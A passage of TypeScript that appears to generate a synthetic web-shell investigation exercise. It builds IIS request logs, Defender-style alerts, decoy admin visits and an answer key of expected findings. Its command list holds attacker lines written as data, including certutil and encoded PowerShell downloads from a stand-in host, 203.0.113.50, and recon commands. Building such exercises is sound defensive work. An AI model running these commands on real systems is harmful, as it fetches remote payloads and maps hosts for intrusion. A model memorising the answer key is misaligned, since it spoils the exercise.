  private browserSession(dayStart: number): void {
    const r = this.r;
    const c = this.clients[Math.floor(this.clients.length * r.next() ** 2)] as Client;
    const content = this.s.content;
    let t = diurnalTime(r, dayStart);
    let referer = r.chance(0.3) ? "https://www.google.com/" : "-";
    let cookie = "-";
    const user = r.chance(0.9) ? r.pick(this.users) : "-";
    const ver = r.chance(0.6) ? "HTTP/2" : "HTTP/1.1";
    for (let n = r.int(1, 6); n > 0; n--) {
      const page = r.weighted(content.pages, this.pageTotal);
      const post = page.post !== undefined && r.chance(page.post);
      const status = r.chance(0.004) ? 500 : r.chance(0.004) ? 404 : post && page.stem.includes("Login") ? 302 : 200;
      this.push(
        req({
          t,
          method: post ? "POST" : "GET",
          stem: page.stem,
          query: page.query ? page.query(r) : "-",
          user: page.auth ? user : "-",
          ip: c.ip,
          ver,
          ua: c.ua,
          cookie,
          referer,
          status,
          win32: status === 404 ? 2 : 0,
          scBytes: r.int(4000, 80000),
          csBytes: post ? r.int(800, 4000) : r.int(350, 900),
          taken: 15 + Math.floor(r.next() ** 3 * 1500),
        }),
      );
      const pageUrl = this.url(page.stem);
      if (cookie === "-") cookie = `ASP.NET_SessionId=${r.token(24)}`;
      // Assets, unless cached.
      if (content.assets.length > 0 && r.chance(0.7)) {
        const at = t + r.int(0, 1) * SECOND;
        const first = r.int(0, content.assets.length - 1);
        const count = Math.min(content.assets.length, r.int(1, 5));
        for (let a = 0; a < count; a++) {
          const stem = content.assets[(first + a) % content.assets.length] as string;
          const cached = r.chance(0.35);
          const query = stem.endsWith(".axd") ? `d=${r.token(16)}&t=638512${r.int(100000, 999999)}` : "-";
          this.push(
            req({
              t: at + r.int(0, 1) * SECOND,
              stem,
              query,
              ip: c.ip,
              ver,
              ua: c.ua,
              cookie,
              referer: pageUrl,
              status: cached ? 304 : 200,
              scBytes: cached ? 180 : r.int(900, 120000),
              csBytes: r.int(350, 700),
              taken: cached ? r.int(0, 3) : r.int(0, 60),
            }),
          );
        }
      }
      if (content.legitUploads && page.auth && r.chance(0.02)) {
        const up = content.upload;
        this.push(
          req({
            t: t + r.int(5, 40) * SECOND,
            method: "POST",
            stem: up.stem,
            query: up.query,
            user,
            ip: c.ip,
            ver,
            ua: c.ua,
            cookie,
            referer: pageUrl,
            scBytes: 240,
            csBytes: r.int(20000, 900000),
            taken: r.int(200, 3000),
          }),
        );
      }
      referer = pageUrl;
      t += r.int(4, 120) * SECOND;
    }
  }

  /** An admin opening a rare admin page (and its assets); returns the page request. */
  adminVisit(t: number, ip: string, page: string = this.r.pick(ADMIN_PAGES)): Req {
    const r = this.r;
    const q = req({
      t,
      stem: page,
      user: ADMIN_USER,
      ip,
      ua: ADMIN_UA,
      ver: "HTTP/2",
      cookie: `ASP.NET_SessionId=${r.token(24)}`,
      referer: this.url("/admin/"),
      scBytes: r.int(9000, 40000),
      csBytes: r.int(600, 1200),
      taken: r.int(40, 900),
    });
    this.push(q);
    for (let a = r.int(0, 2); a > 0; a--) {
      this.push(
        req({
          t: t + r.int(0, 2) * SECOND,
          stem: r.pick(COMMON_ASSETS),
          user: ADMIN_USER,
          ip,
          ua: ADMIN_UA,
          ver: "HTTP/2",
          referer: this.url(page),
          status: 304,
          scBytes: 180,
          csBytes: 500,
          taken: r.int(0, 3),
        }),
      );
    }
    return q;
  }
}

// ---------------------------------------------------------------------------------------------
// Commands the shells run.

function encoded(script: string): string {
  return Buffer.from(script, "utf16le").toString("base64");
}

/** `short`: the command as a GET-style shell takes it in its query string. */
function commandLines(r: Rng, dir: string): { image: "cmd.exe" | "powershell.exe"; line: string; short?: string }[] {
  const tool = r.token(6);
  const chopper = (c: string) => `cmd.exe /c cd /d "${dir}"&${c}&echo [S]&cd&echo [E]`;
  const all = [
    { image: "cmd.exe" as const, line: chopper("whoami /all"), short: "whoami /all" },
    { image: "cmd.exe" as const, line: chopper("ipconfig /all"), short: "ipconfig /all" },
    { image: "cmd.exe" as const, line: chopper("net user"), short: "net user" },
    {
      image: "cmd.exe" as const,
      line: "cmd.exe /c net localgroup administrators",
      short: "net localgroup administrators",
    },
    { image: "cmd.exe" as const, line: "cmd.exe /c tasklist /v", short: "tasklist /v" },
    { image: "cmd.exe" as const, line: "cmd.exe /c systeminfo", short: "systeminfo" },
    { image: "cmd.exe" as const, line: "cmd.exe /c netstat -ano", short: "netstat -ano" },
    { image: "cmd.exe" as const, line: `cmd.exe /c dir "${dir}\\.."`, short: "dir .." },
    {
      image: "cmd.exe" as const,
      line: `cmd.exe /c certutil -urlcache -split -f http://203.0.113.50/${tool}.exe C:\\Windows\\Temp\\svc.exe`,
      short: `certutil -urlcache -split -f http://203.0.113.50/${tool}.exe C:\\Windows\\Temp\\svc.exe`,
    },
    {
      image: "powershell.exe" as const,
      line: `powershell.exe -nop -w hidden -enc ${encoded("Get-ChildItem C:\\Users | Select-Object Name")}`,
    },
    {
      image: "powershell.exe" as const,
      line: `powershell.exe -nop -c "Get-WmiObject Win32_Process | Select Name,ProcessId,CommandLine"`,
    },
    {
      image: "powershell.exe" as const,
      line: `powershell.exe -nop -enc ${encoded("[Net.ServicePointManager]::SecurityProtocol='Tls12';Invoke-WebRequest http://203.0.113.50/a.ps1 -OutFile $env:TEMP\\a.ps1")}`,
    },
  ];
  // Recon first (the order attackers follow), then the rest shuffled.
  const head = all.slice(0, 3);
  const tail = all.slice(3);
  for (let i = tail.length - 1; i > 0; i--) {
    const j = r.int(0, i);
    [tail[i], tail[j]] = [tail[j] as (typeof tail)[number], tail[i] as (typeof tail)[number]];
  }
  return [...head, ...tail];
}

// ---------------------------------------------------------------------------------------------
// Alerts.

const HASHES = {
  w3wp: {
    sha1: "0f3bb9a4c5d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8",
    sha256: "3d9f1c2b4a5e6d7c8b9a0f1e2d3c4b5a69788776655443322110ffeeddccbbaa",
  },
  "cmd.exe": { sha1: "ded8fd7f36417f66eb6ada10e0c0d7c0022986e9" },
  "powershell.exe": { sha1: "6cbce4a295c163791b60fc23d285e6d84f28ee4c" },
  "csc.exe": { sha1: "a1b9d8cbe0f4f5d2a7b62b41f0b8d9e0c1a2b3c4" },
} as const;
const IMAGE_DIRS = {
  "cmd.exe": "C:\\Windows\\System32",
  "powershell.exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
  "csc.exe": "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319",
} as const;

class AlertWriter {
  readonly rows: SecurityAlertRow[] = [];
  private readonly deviceIds = new Map<string, string>();
  constructor(private readonly r: Rng) {}

  /** Seconds to 15 minutes, most often a few minutes. */
  lag(): number {
    const r = this.r;
    const x = r.next();
    if (x < 0.25) return r.int(2_000, 30_000);
    if (x < 0.7) return r.int(30_000, 5 * MINUTE);
    return r.int(5 * MINUTE, MAX_ALERT_LAG_MS);
  }

  host(server: ServerSpec): Record<string, unknown> {
    let device = this.deviceIds.get(server.host);
    if (!device) {
      device = this.r.hex(40);
      this.deviceIds.set(server.host, device);
    }
    return {
      $id: "2",
      DnsDomain: server.dnsDomain,
      HostName: server.hostName,
      OSFamily: "Windows",
      OSVersion: "1809",
      Type: "host",
      MdatpDeviceId: device,
      FQDN: server.fqdn,
      AadDeviceId: null,
      RiskScore: "High",
      HealthStatus: "Active",
      LastIpAddress: server.serverIp,
      AvStatus: "Updated",
      OnboardingStatus: "Onboarded",
      LoggedOnUsers: [],
    };
  }

  private w3wpEntities(s: SiteState, fileId: number): Record<string, unknown>[] {
    const pool = s.site.appPool;
    return [
      {
        $id: String(fileId),
        Directory: "C:\\Windows\\System32\\inetsrv",
        Name: "w3wp.exe",
        FileHashes: [
          { $id: String(fileId + 1), Algorithm: "SHA1", Value: HASHES.w3wp.sha1, Type: "filehash" },
          { $id: String(fileId + 2), Algorithm: "SHA256", Value: HASHES.w3wp.sha256, Type: "filehash" },
        ],
        Type: "file",
      },
      {
        $id: String(fileId + 3),
        Name: pool,
        NTDomain: "IIS APPPOOL",
        Sid: `S-1-5-82-${this.r.int(1e9, 4e9)}-${this.r.int(1e8, 9e8)}-${this.r.int(1e9, 4e9)}`,
        IsDomainJoined: false,
        Type: "account",
      },
      {
        $id: String(fileId + 4),
        ProcessId: s.w3wp.pid,
        CommandLine: s.w3wp.commandLine,
        CreationTimeUtc: alertTime(s.w3wp.created, 4467),
        ImageFile: { $ref: String(fileId) },
        Account: { $ref: String(fileId + 3) },
        Host: { $ref: "2" },
        Type: "process",
      },
    ];
  }

  private row(p: {
    server: ServerSpec;
    name: string;
    severity: string;
    description: string;
    activity: number;
    activityExtra: number;
    tactics: string;
    techniques: string;
    entities: unknown[];
  }): SecurityAlertRow {
    const r = this.r;
    const id = r.guid();
    const generated = p.activity + this.lag();
    const ticks = BigInt(p.activity) * 10000n + 621355968000000000n + BigInt(p.activityExtra);
    const vendorId = `da${ticks}_${r.int(-2147483648, 2147483647)}`;
    const row: SecurityAlertRow = {
      TenantId: "00000000-0000-0000-0000-000000000000",
      ProviderName: "MDATP",
      VendorName: "Microsoft",
      ProductName: "Microsoft Defender Advanced Threat Protection",
      ProductComponentName: "",
      AlertType: "WindowsDefenderAtp",
      ConfidenceLevel: "",
      ConfidenceScore: null,
      IsIncident: false,
      ExtendedLinks: "",
      RemediationSteps: "",
      ResourceId: "",
      SourceComputerId: "",
      SourceSystem: "Detection",
      WorkspaceSubscriptionId: "",
      WorkspaceResourceGroup: "",
      Type: "SecurityAlert",
      CompromisedEntity: p.server.fqdn,
      Status: "New",
      TimeGenerated: alertTime(generated, r.int(0, 9999)),
      DisplayName: p.name,
      AlertName: p.name,
      AlertSeverity: p.severity,
      Description: p.description,
      StartTime: alertTime(p.activity, p.activityExtra),
      EndTime: alertTime(p.activity, p.activityExtra),
      ProcessingEndTime: alertTime(generated - r.int(200, 1500), r.int(0, 9999)),
      SystemAlertId: id,
      VendorOriginalId: vendorId,
      AlertLink: `https://securitycenter.microsoft.com/alert/${vendorId}`,
      Tactics: p.tactics,
      Techniques: p.techniques,
      ExtendedProperties: JSON.stringify({
        "MicrosoftDefenderAtp.Category": "SuspiciousActivity",
        "MicrosoftDefenderAtp.InvestigationState": "Queued",
      }),
      Entities: JSON.stringify(p.entities),
    };
    this.rows.push(row);
    return row;
  }

  /** "Possible web shell installation": the script file created by w3wp. */
  fileAlert(s: SiteState, file: { name: string; directory: string }, createdAt: number): string {
    const r = this.r;
    return this.row({
      server: s.server,
      name: "Possible web shell installation",
      severity: "High",
      description: `A file that might be a web shell (${file.name}) was created by the IIS worker process w3wp.exe on ${s.server.fqdn}.`,
      activity: createdAt,
      activityExtra: r.int(0, 9999),
      tactics: "Persistence",
      techniques: "T1505",
      entities: [
        this.host(s.server),
        {
          $id: "3",
          Directory: file.directory,
          Name: file.name,
          FileHashes: [
            { $id: "4", Algorithm: "SHA1", Value: r.hex(40), Type: "filehash" },
            { $id: "5", Algorithm: "SHA256", Value: r.hex(64), Type: "filehash" },
          ],
          Type: "file",
        },
        ...this.w3wpEntities(s, 6),
      ],
    }).SystemAlertId;
  }

  /** A child process of w3wp.exe (the command alert layout of the sample). */
  childAlert(
    s: SiteState,
    name: string,
    child: { image: keyof typeof IMAGE_DIRS; commandLine: string; at: number; extra: number },
  ): string {
    const r = this.r;
    return this.row({
      server: s.server,
      name,
      severity: child.image === "csc.exe" ? "Medium" : "High",
      description: `The IIS worker process w3wp.exe on ${s.server.fqdn} started ${child.image}, which may indicate that a web shell runs commands.`,
      activity: child.at,
      activityExtra: child.extra,
      tactics: "Persistence, Execution",
      techniques: "T1505, T1059",
      entities: [
        this.host(s.server),
        ...this.w3wpEntities(s, 3),
        {
          $id: "8",
          Directory: IMAGE_DIRS[child.image],
          Name: child.image,
          FileHashes: [{ $id: "9", Algorithm: "SHA1", Value: HASHES[child.image].sha1, Type: "filehash" }],
          Type: "file",
        },
        {
          $id: "10",
          ProcessId: String(r.int(1000, 15000)),
          CommandLine: child.commandLine,
          CreationTimeUtc: alertTime(child.at, child.extra),
          ImageFile: { $ref: "8" },
          ParentProcess: { $ref: "7" },
          Account: { $ref: "6" },
          Host: { $ref: "2" },
          Type: "process",
        },
      ],
    }).SystemAlertId;
  }

  /** "Suspicious PowerShell command line" run by a scheduled task: no w3wp.exe. */
  powershellAlert(server: ServerSpec, at: number): string {
    const r = this.r;
    const extra = r.int(0, 9999);
    const script = "Get-ChildItem IIS:\\AppPools | Where-Object State -ne Started | Start-WebAppPool";
    return this.row({
      server,
      name: "Suspicious PowerShell command line",
      severity: "Low",
      description: `A PowerShell command line with an encoded command ran on ${server.fqdn}.`,
      activity: at,
      activityExtra: extra,
      tactics: "Execution",
      techniques: "T1059",
      entities: [
        this.host(server),
        {
          $id: "3",
          Directory: IMAGE_DIRS["powershell.exe"],
          Name: "powershell.exe",
          FileHashes: [{ $id: "4", Algorithm: "SHA1", Value: HASHES["powershell.exe"].sha1, Type: "filehash" }],
          Type: "file",
        },
        { $id: "5", Name: "svc_iisops", NTDomain: "CONTOSO", IsDomainJoined: true, Type: "account" },
        {
          $id: "6",
          ProcessId: String(r.int(1000, 15000)),
          CommandLine: `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${encoded(script)}`,
          CreationTimeUtc: alertTime(at, extra),
          ImageFile: { $ref: "3" },
          Account: { $ref: "5" },
          Host: { $ref: "2" },
          Type: "process",
        },
      ],
    }).SystemAlertId;
  }
}

// ---------------------------------------------------------------------------------------------
// The generator.

const COMMAND_ALERT_NAMES = [
  "Possible IIS web shell",
  "Suspicious processes indicative of a web shell",
  "Possible IIS compromise",
] as const;

interface ActorProfile extends Attacker {
  second: Attacker;
}

export function generateScenario(options: ScenarioOptions): Scenario {
  const opts: Required<ScenarioOptions> = {
    seed: 7,
    servers: 5,
    returningActor: false,
    hostPrefix: "WEB",
    benignAlerts: true,
    unloggedServerAlert: true,
    ...options,
  };
  if (!(opts.servers >= 2 && opts.servers <= SERVER_CATALOG.length)) {
    throw new Error(`servers must be 2..${SERVER_CATALOG.length}, not ${opts.servers}`);
  }
  if (!(opts.days >= 1) || !(opts.intrusions >= 0) || !(opts.requestsPerServerPerDay >= 0)) {
    throw new Error("days must be >= 1, intrusions and requestsPerServerPerDay >= 0");
  }
  if (opts.returningActor && (opts.days < 2 || opts.intrusions < 1)) {
    throw new Error("returningActor needs days >= 2 and intrusions >= 1");
  }
  const r = new Rng(opts.seed);
  const start = Date.UTC(opts.start.getUTCFullYear(), opts.start.getUTCMonth(), opts.start.getUTCDate());
  const end = start + opts.days * DAY;

  // Servers and sites.
  if (!/^[A-Z][A-Z0-9-]{0,11}$/.test(opts.hostPrefix)) {
    throw new Error(`hostPrefix must be 1-12 upper-case letters, digits or -, not ${opts.hostPrefix}`);
  }
  const hostOf = (catalogHost: string) => opts.hostPrefix + catalogHost.slice("WEB".length);
  const servers: ServerSpec[] = SERVER_CATALOG.slice(0, opts.servers).map((t) => ({
    host: hostOf(t.host),
    hostName: hostOf(t.host).toLowerCase(),
    dnsDomain: t.dnsDomain,
    fqdn: `${hostOf(t.host).toLowerCase()}.${t.dnsDomain}`,
    serverIp: t.ip,
    layout: t.layout,
    logsHostAndSite: t.layout !== "default",
    hasLogs: true,
    sites: t.sites.map(({ name, hostHeader, webRoot, appPool }) => ({ name, hostHeader, webRoot, appPool })),
  }));
  const siteStates: SiteState[] = [];
  const shareOf = new Map<SiteState, number>();
  SERVER_CATALOG.slice(0, opts.servers).forEach((t, i) => {
    const server = servers[i] as ServerSpec;
    t.sites.forEach((st, k) => {
      const site = server.sites[k] as SiteSpec;
      const s: SiteState = {
        server,
        site,
        content: CONTENT[st.content] as SiteContent,
        reqs: [],
        w3wp: {
          pid: String(r.int(1000, 9999)),
          created: withMs(r, start - r.int(1, 20) * DAY - r.int(0, DAY / SECOND) * SECOND),
          commandLine: `c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "${site.appPool}" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm${r.hex(8)} -h "C:\\inetpub\\temp\\apppools\\${site.appPool}\\${site.appPool}.config" -w "" -m 0 -t 20 -ta 0`,
        },
      };
      siteStates.push(s);
      shareOf.set(s, st.share);
    });
  });
  const siteOf = (host: string, site: string) =>
    siteStates.find((s) => s.server.host === host && s.site.name === site) as SiteState;

  // Background traffic.
  const total = opts.requestsPerServerPerDay * opts.days * opts.servers;
  const clients: Client[] = Array.from({ length: Math.max(50, Math.min(30000, Math.round(total / 30))) }, () => ({
    ip: randomPublicIp(r),
    ua: r.pick(BROWSERS),
  }));
  const users = Array.from({ length: 60 }, (_, i) => `CONTOSO\\user${String(i + 1).padStart(3, "0")}`);
  const backgrounds = new Map<SiteState, Background>();
  for (const s of siteStates) {
    const bg = new Background(r, s, clients, users);
    backgrounds.set(s, bg);
    for (let d = 0; d < opts.days; d++) {
      bg.day(start + d * DAY, Math.round(opts.requestsPerServerPerDay * (shareOf.get(s) as number)));
    }
  }

  // Actors: attacker IPs come from the documentation ranges, which background traffic never uses.
  const usedIps = new Set<string>();
  const docIp = (net: string) => {
    for (;;) {
      const ip = `${net}.${r.int(2, 254)}`;
      if (!usedIps.has(ip)) {
        usedIps.add(ip);
        return ip;
      }
    }
  };
  const actorOf = (n: number): ActorProfile => {
    const base = ATTACKER_UAS[n % ATTACKER_UAS.length] as string;
    // More actors than user agents: vary the version so every actor's user agent stays unique.
    const ua = n < ATTACKER_UAS.length ? base : `${base}+Actor/${n}`;
    return {
      ip: docIp(n % 2 === 0 ? "198.51.100" : "192.0.2"),
      userAgent: ua,
      second: { ip: docIp("203.0.113"), userAgent: TOOL_UAS[n % TOOL_UAS.length] as string },
    };
  };

  const alerts = new AlertWriter(r);
  const expected: Record<string, ExpectedAlert> = {};
  const intrusions: PlantedIntrusion[] = [];
  const decoys: DecoyRequest[] = [];
  const usedShells = new Set<string>();
  const shellOffset = r.int(0, SHELL_NAMES.length - 1);
  /** Planted activity per host, to keep benign alerts away from it. */
  const busy: { host: string; from: number; to: number }[] = [];

  const logged = servers.filter((s) => s.hasLogs);
  const plans: {
    actor: number;
    profile: ActorProfile;
    server: ServerSpec;
    site: SiteSpec;
    uploadAt: number;
    variant: "single" | "ip" | "ua";
    returnOf: number | null;
  }[] = [];
  const firstFrom = start + 5 * HOUR;
  const lastUpload = end - 7 * HOUR;
  for (let i = 0; i < opts.intrusions; i++) {
    const server = logged[i % logged.length] as ServerSpec;
    const site = (i % 3 === 2 && server.sites.length > 1 ? server.sites[1] : server.sites[0]) as SiteSpec;
    let uploadAt: number;
    if (i === 0 && opts.returningActor) {
      uploadAt = firstFrom + r.int(0, 6 * 3600) * SECOND;
    } else {
      const slot = (lastUpload - firstFrom) / opts.intrusions;
      uploadAt = firstFrom + slot * i + r.next() * slot * 0.85;
    }
    plans.push({
      actor: i,
      profile: actorOf(i),
      server,
      site,
      uploadAt: floorSec(uploadAt),
      variant: i % 3 === 1 ? "ip" : i % 3 === 2 ? "ua" : "single",
      returnOf: null,
    });
  }
  if (opts.returningActor) {
    const first = plans[0]!;
    const taken = new Set(plans.map((p) => p.server.host));
    const server =
      logged.find((s) => !taken.has(s.host)) ??
      (logged[(logged.indexOf(first.server) + 1) % logged.length] as ServerSpec);
    const uploadAt = Math.min(first.uploadAt + 2 * DAY + r.int(0, 12 * 3600) * SECOND, lastUpload);
    if (uploadAt < first.uploadAt + DAY) throw new Error("returningActor: too few days for a return a day later");
    plans.push({
      ...first,
      server,
      site: server.sites[0] as SiteSpec,
      uploadAt: floorSec(uploadAt),
      variant: "single",
      returnOf: 0,
    });
  }

  plans.forEach((plan, index) => {
    const s = siteOf(plan.server.host, plan.site.name);
    const content = s.content;
    const a: Attacker = { ip: plan.profile.ip, userAgent: plan.profile.userAgent };
    const planted: PlantedRequest[] = [];
    const attack = (who: Attacker, p: Partial<Req> & Pick<Req, "t" | "stem">): Req => {
      const q = req({
        ...p,
        ip: who.ip,
        ua: who.userAgent,
        scBytes: p.scBytes ?? r.int(200, 30000),
        csBytes: p.csBytes ?? r.int(300, 900),
        taken: p.taken ?? r.int(15, 400),
      });
      if (p.win32 === undefined && q.status === 404 && q.sub === 0) q.win32 = 2;
      s.reqs.push(q);
      planted.push(toPlanted(q));
      return q;
    };

    // Shell file: a returning actor reuses its shell's name.
    const earlier = plan.returnOf !== null ? intrusions[plan.returnOf] : undefined;
    let name = earlier ? earlier.shellFile.name : (SHELL_NAMES[(shellOffset + index) % SHELL_NAMES.length] as string);
    if (!earlier && index >= SHELL_NAMES.length) name = name.replace(".aspx", `${index}.aspx`);
    let folder: string;
    do folder = r.pick(SHELL_FOLDERS);
    while (usedShells.has(`${plan.server.host}/${plan.site.name}/${folder}/${name}`));
    usedShells.add(`${plan.server.host}/${plan.site.name}/${folder}/${name}`);
    const shellLocation = `/${folder}/${name}`;
    const directory = `${plan.site.webRoot}\\${folder.replace(/\//g, "\\")}`;

    // Upload and file creation: the POST is logged 20 s before to 3 s after the file appears.
    const uploadLogged = plan.uploadAt;
    const createdAt = r.chance(0.5)
      ? withMs(r, uploadLogged - r.int(1, 2) * SECOND)
      : withMs(r, uploadLogged + r.int(1, 19) * SECOND);

    // Recon: first access, browsing, 404 probing, a look at the upload page.
    const firstAccess = uploadLogged - r.int(15 * 60, 4 * 3600) * SECOND;
    let t = firstAccess;
    attack(a, { t, stem: "/", status: r.chance(0.5) ? 302 : 200 });
    for (let n = r.int(1, 3); n > 0; n--) {
      t += r.int(2, 40) * SECOND;
      const page = content.pages[r.int(0, content.pages.length - 1)] as PageDef;
      attack(a, { t, stem: page.stem, query: page.query ? page.query(r) : "-" });
    }
    if (r.chance(0.6)) attack(a, { t: (t += r.int(1, 10) * SECOND), stem: "/robots.txt" });
    t += r.int(60, 15 * 60) * SECOND;
    for (const stem of ATTACKER_PROBES.filter(() => r.chance(0.7))) {
      t += r.int(1, 3) * SECOND;
      const hidden = stem.startsWith("/bin/") || stem.startsWith("/App_Data/");
      attack(a, {
        t,
        stem,
        status: hidden ? 404 : stem.endsWith("/") ? 403 : 404,
        sub: hidden ? 8 : stem.endsWith("/") ? 14 : 0,
      });
    }
    t = Math.max(t + r.int(5, 60) * SECOND, uploadLogged - r.int(30, 300) * SECOND);
    attack(a, { t, stem: content.upload.stem, query: content.upload.query, status: content.upload.getStatus });
    const upload = attack(a, {
      t: uploadLogged,
      method: "POST",
      stem: content.upload.stem,
      query: content.upload.query,
      csBytes: r.int(2000, 9000),
      scBytes: r.int(150, 600),
      taken: r.int(300, 2500),
    });

    // The shell's first access, then commands.
    const shellReqs: PlantedRequest[] = [];
    const firstShell = Math.max(uploadLogged, ceilSec(createdAt)) + r.int(3, 40) * SECOND;
    attack(a, { t: firstShell, stem: shellLocation, scBytes: r.int(1500, 4000) });
    shellReqs.push(planted[planted.length - 1] as PlantedRequest);
    const requestsBeforeShell = planted.filter((p) => p.time.getTime() < firstShell);

    const lines = commandLines(r, directory);
    const commands: PlantedCommand[] = [];
    let lineIndex = 0;
    const runCommand = (who: Attacker, execAt: number) => {
      const cmd = lines[lineIndex++ % lines.length]!;
      const extra = r.int(0, 9999);
      const logged = completionSecond(r, execAt);
      // Some shells take the command in the query string (cmd.exe ones here); most POST it.
      const get = cmd.image === "cmd.exe" && r.chance(0.3);
      const q = attack(who, {
        t: logged,
        method: get ? "GET" : "POST",
        stem: shellLocation,
        query: get ? `cmd=${encodeURIComponent(cmd.short ?? cmd.line)}` : "-",
        csBytes: get ? r.int(300, 700) : r.int(600, 4000),
        scBytes: r.int(400, 20000),
        taken: logged - execAt + r.int(30, 400) + r.int(0, 999),
      });
      const request = toPlanted(q);
      shellReqs.push(request);
      const alertId = alerts.childAlert(s, r.pick(COMMAND_ALERT_NAMES), {
        image: cmd.image,
        commandLine: cmd.line,
        at: execAt,
        extra,
      });
      commands.push({ alertId, image: cmd.image, commandLine: cmd.line, executedAt: new Date(execAt), request });
      return { alertId, logged };
    };

    let exec = withMs(r, firstShell + r.int(5, 60) * SECOND);
    const primary: { alertId: string; logged: number }[] = [];
    const n = r.int(3, 5);
    for (let k = 0; k < n; k++) {
      primary.push(runCommand(a, exec));
      // The second command follows within 90 s; later ones within 90 s or minutes apart.
      const gap = k === 0 || r.chance(0.4) ? r.int(15, 80) * SECOND : r.int(2, 25) * MINUTE;
      exec = withMs(r, exec + gap);
    }
    let lastActivity = primary[primary.length - 1]!.logged;
    const attackers: Attacker[] = [a];
    if (plan.variant !== "single") {
      const who = plan.variant === "ip" ? plan.profile.second : { ip: a.ip, userAgent: plan.profile.second.userAgent };
      const room = end - 45 * MINUTE - lastActivity;
      if (room > 10 * MINUTE) {
        let at = lastActivity + r.int(10 * 60, Math.min(5 * 3600, Math.floor(room / SECOND))) * SECOND;
        attackers.push(who);
        if (plan.variant === "ip") {
          attack(who, { t: at, stem: shellLocation });
          shellReqs.push(planted[planted.length - 1] as PlantedRequest);
          at += r.int(3, 30) * SECOND;
        }
        for (let k = r.int(1, 3); k > 0; k--) {
          lastActivity = runCommand(who, withMs(r, at)).logged;
          at += r.int(20, 600) * SECOND;
        }
      }
    }
    busy.push({ host: plan.server.host, from: firstAccess - HOUR, to: lastActivity + HOUR });

    // Decoys: an admin opens rare admin pages within a minute of shell commands — on this site,
    // and on another server's site of the same name (W3SVC1 everywhere).
    const near = primary[r.int(0, 1)]!;
    const decoy = (target: SiteState, around: { alertId: string; logged: number }, ip: string) => {
      const offset = (r.chance(0.5) ? 1 : -1) * r.int(2, 50) * SECOND;
      const q = (backgrounds.get(target) as Background).adminVisit(around.logged + offset, ip);
      decoys.push({
        host: target.server.host,
        site: target.site.name,
        time: new Date(q.t),
        uri: q.stem,
        ip,
        userAgent: ADMIN_UA,
        nearAlertId: around.alertId,
        sameHost: target === s,
      });
    };
    decoy(s, near, ADMIN_IPS[0]);
    if (r.chance(0.5)) decoy(s, primary[primary.length - 1]!, ADMIN_IPS[1]);
    const twin = siteStates.find((o) => o !== s && o.site.name === s.site.name && o.server !== s.server);
    if (twin) decoy(twin, near, r.pick(ADMIN_IPS));

    const fileAlertId = alerts.fileAlert(s, { name, directory }, createdAt);

    shellReqs.sort((x, y) => x.time.getTime() - y.time.getTime());
    const intrusion: PlantedIntrusion = {
      index,
      actor: plan.actor,
      returnOf: plan.returnOf,
      host: plan.server.host,
      site: plan.site.name,
      hostName: plan.server.hostName,
      fqdn: plan.server.fqdn,
      shellLocation,
      shellFile: { name, directory },
      attacker: a,
      attackers,
      firstAccess: new Date(firstAccess),
      requestsBeforeShell,
      filesBeforeShell: [...new Set(requestsBeforeShell.map((p) => p.uri))],
      upload: toPlanted(upload),
      shellCreatedAt: new Date(createdAt),
      firstShellAccess: new Date(firstShell),
      shellRequests: shellReqs,
      commands,
      fileAlertId,
    };
    intrusions.push(intrusion);

    const installedVia = {
      time: new Date(upload.t),
      method: upload.method,
      uri: upload.stem,
      query: upload.query === "-" ? null : upload.query,
      ip: upload.ip,
      userAgent: upload.ua,
    };
    const common = {
      benign: false,
      host: plan.server.host,
      site: plan.site.name,
      shellLocation,
      firstShellAccess: new Date(firstShell),
      installedVia,
      intrusion: index,
      logsAvailable: true,
    };
    expected[fileAlertId] = {
      kind: "file",
      ...common,
      attackers,
      note: `shell ${shellLocation} created on ${plan.server.host}`,
    };
    for (const c of commands) {
      expected[c.alertId] = {
        kind: "command",
        ...common,
        attackers: [{ ip: c.request.ip, userAgent: c.request.userAgent }],
        commandRequest: c.request,
        note: `${c.image} run through ${shellLocation}`,
      };
    }
  });

  // Benign and unresolvable alerts.
  const quietTime = (host: string, from: number, to: number) => {
    for (let tries = 0; ; tries++) {
      const at = withMs(r, from + r.next() * (to - from));
      if (tries > 50 || !busy.some((b) => b.host === host && at > b.from && at < b.to)) return at;
    }
  };
  if (opts.benignAlerts) {
    const compromised = new Set(intrusions.map((i) => i.host));
    const server = logged.find((sv) => !compromised.has(sv.host)) ?? (logged[logged.length - 1] as ServerSpec);
    const s = siteOf(server.host, (server.sites[0] as SiteSpec).name);
    const day = start + r.int(0, opts.days - 1) * DAY;
    // ASP.NET compiles a page the first time it is requested after a deployment: the admin opens
    // a (rare) admin page, w3wp starts csc.exe, and the request completes 0–3 s later.
    const at = quietTime(server.host, day + 9 * HOUR, day + 17 * HOUR);
    const page = "/admin/reports.aspx";
    const bg = backgrounds.get(s) as Background;
    const q = bg.adminVisit(completionSecond(r, at), ADMIN_IPS[1], page);
    q.taken = q.t - at + r.int(500, 900);
    const tempDir = `C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\${r.hex(8)}\\${r.hex(8)}`;
    const cscId = alerts.childAlert(s, "Suspicious processes indicative of a web shell", {
      image: "csc.exe",
      commandLine: `"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /t:library /utf8output /nostdlib+ /noconfig /fullpaths @"${tempDir}\\${r.token(8)}.cmdline"`,
      at,
      extra: r.int(0, 9999),
    });
    expected[cscId] = {
      kind: "command",
      benign: true,
      host: server.host,
      site: s.site.name,
      shellLocation: null,
      attackers: [],
      firstShellAccess: null,
      intrusion: null,
      logsAvailable: true,
      note: `ASP.NET compiled ${page} for an admin (${ADMIN_IPS[1]}): csc.exe under w3wp is no shell`,
    };
    const psServer = logged[r.int(0, logged.length - 1)] as ServerSpec;
    const psDay = start + r.int(0, opts.days - 1) * DAY;
    const psId = alerts.powershellAlert(psServer, quietTime(psServer.host, psDay + HOUR, psDay + 23 * HOUR));
    expected[psId] = {
      kind: "other",
      benign: true,
      host: psServer.host,
      site: null,
      shellLocation: null,
      attackers: [],
      firstShellAccess: null,
      intrusion: null,
      logsAvailable: true,
      note: "a scheduled PowerShell task; no w3wp.exe, not a web shell alert",
    };
  }
  if (opts.unloggedServerAlert) {
